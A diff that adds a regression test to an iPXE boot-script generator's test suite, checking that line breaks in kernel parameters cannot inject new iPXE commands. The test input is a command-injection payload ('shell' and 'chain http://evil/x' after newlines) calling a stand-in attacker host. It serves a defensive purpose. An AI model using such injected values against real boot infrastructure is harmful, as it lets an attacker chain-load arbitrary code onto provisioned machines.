@@ -151,6 +151,15 @@ describe('DriverRegistry with pxe and ipxe', () => {
       expect(s.written[0]).toContain('initrd --name rescue_ramdisk --timeout 60000 http://files/r.initramfs ||');
     });
 
+    it('keeps kernel parameters on the kernel line: a line break in them cannot add an iPXE command', async () => {
+      const s = withStore({ driver_info: { ...KERNEL, kernel_append_params: 'quiet\nshell\r\nchain http://evil/x' } });
+      await boot.prepareRamdisk(s.t, {});
+      expect(s.written[0]?.split('\n')[3]).toBe(
+        'kernel --timeout 60000 http://files/agent.kernel quiet shell chain http://evil/x ipa-api-url=http://192.0.2.1:6385 BOOTIF=${mac} initrd=deploy_ramdisk || goto retry',
+      );
+      expect(s.written[0]?.split('\n')).toHaveLength(10);
+    });
+
     it('refuses a kernel iPXE cannot fetch (Ferrum keeps no image cache), writing nothing and leaving the boot device', async () => {
       const s = withStore({ driver_info: { deploy_kernel: 'glance-uuid', deploy_ramdisk: 'http://files/agent.initramfs' } });
       await expect(boot.prepareRamdisk(s.t, {})).rejects.toThrow(
